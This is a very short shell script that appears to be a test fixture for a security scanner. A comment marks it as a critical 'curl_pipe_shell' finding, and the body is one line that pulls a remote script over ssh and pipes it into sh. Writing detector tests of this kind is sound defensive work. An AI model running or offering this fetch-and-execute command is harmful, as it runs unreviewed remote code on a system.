# expect: shell.curl_pipe_shell critical
#!/bin/sh
ssh deploy@203.0.113.9 cat /srv/i.sh | sh
